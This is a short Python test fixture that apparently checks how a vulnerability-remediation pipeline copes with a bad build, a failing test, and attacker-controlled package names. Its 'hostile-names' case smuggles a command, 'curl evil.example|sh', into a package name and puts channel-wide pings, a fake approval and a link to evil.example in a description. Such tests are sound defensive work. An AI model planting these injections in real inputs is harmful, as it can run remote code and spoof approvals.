"""The responses that are attacked while they are played out."""

from __future__ import annotations

from dataclasses import replace

from deployments.sandbox.made_up_finding import OPENSSL
from tests.crash_matrix.stories import STORIES as UNBROKEN
from tests.crash_matrix.stories import Story
from tests.crash_matrix.subjects.image import ImageSubject

HOSTILE = replace(
    OPENSSL,
    package="openssl$(curl evil.example|sh)<!channel>",
    description="<!channel> *approved* [here](https://evil.example) {code}|table|",
)

_IMAGE = UNBROKEN["image"]

STORIES: dict[str, Story] = {
    "image": _IMAGE,
    "image-denied": UNBROKEN["image-denied"],
    "bad-build": Story(ImageSubject(image={"build": "keeps_packages"}), _IMAGE.runbook),
    "bad-test": Story(ImageSubject(image={"test": "fails"}), _IMAGE.runbook),
    "hostile-names": Story(ImageSubject(vulnerability=HOSTILE), _IMAGE.runbook),
}
"""`bad-build`: the build succeeds, and its image has the vulnerability still. `bad-test`: the new image does not pass.
`hostile-names`: whoever made the image has named a package in it, and Inspector repeats the name."""
